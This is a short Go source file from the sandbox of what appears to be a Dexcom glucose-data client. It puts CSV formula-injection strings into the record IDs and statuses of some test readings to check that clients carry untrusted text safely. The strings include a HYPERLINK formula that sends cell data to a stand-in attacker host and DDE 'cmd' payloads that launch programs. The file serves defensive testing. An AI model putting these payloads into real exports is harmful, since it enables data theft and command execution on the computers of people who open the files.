package sandbox

import (
	"iter"
	"time"

	"github.com/tryrook/dexonboard/internal/dexcom"
)

// HostileRecordIDs and HostileStatuses are what Config.HostileText puts
// at the start of a reading's recordId and in its status: text a
// spreadsheet would run as a formula (OWASP's CSV injection triggers
// = + - @, tab and carriage return). Dexcom documents neither field's
// content, so a client must carry such text without trusting it.
var (
	HostileRecordIDs = []string{`=HYPERLINK("https://evil.example/?d="&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"}
	HostileStatuses  = []string{"=1+1", "+1", "-1+1", "@A1", "\t=A1", "\r=A1"}
)

// hostileEGVs gives one reading an hour (slot 0 of each hour) a hostile
// recordId prefix (the id stays unique) and status, in turn.
func hostileEGVs(recs iter.Seq[dexcom.EGV]) iter.Seq[dexcom.EGV] {
	return func(yield func(dexcom.EGV) bool) {
		for e := range recs {
			slot := e.At().Unix() / int64(cadence/time.Second)
			if slot%12 == 0 && e.Value != nil {
				k := int(slot/12) % len(HostileRecordIDs)
				e.RecordID = HostileRecordIDs[k] + " " + e.RecordID
				e.Status = ptr(HostileStatuses[k])
			}
			if !yield(e) {
				return
			}
		}
	}
}
